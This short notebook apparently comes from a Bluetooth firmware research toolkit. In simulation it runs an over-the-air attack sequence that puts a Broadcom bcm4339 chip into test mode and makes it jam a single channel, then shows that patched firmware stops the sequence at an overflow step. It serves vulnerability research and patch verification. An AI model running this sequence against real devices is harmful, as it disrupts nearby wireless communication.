# %% [markdown]
# # Turning a neighbour into a jammer
#
# The victim is talked into test mode over the air and then told to
# transmit on a single channel.

# %%
from bluepatch import security
from bluepatch.core import Session
from bluepatch.sim.controller import Air

air = Air()
victim = Session.simulated("bcm4339", "de:ad:be:ef:00:00", air)
attacker = Session.simulated("bcm4339", "00:1a:7d:da:71:0a", air)
handle = attacker.connect("de:ad:be:ef:00:00").handle

outcome = security.jammer_sequence(attacker, handle)
print("victim mode:", outcome.victim_mode.name)
print("carrier at", outcome.frequency_mhz, "MHz")

# %% [markdown]
# The patched firmware stops the sequence at the overflow step.

# %%
air = Air()
Session.simulated("bcm4339_fixed", "de:ad:be:ef:00:00", air)
other = Session.simulated("bcm4339", "00:1a:7d:da:71:0a", air)
try:
    security.jammer_sequence(other, other.connect("de:ad:be:ef:00:00").handle)
except security.StepFailed as e:
    print("stopped at step", e.index)
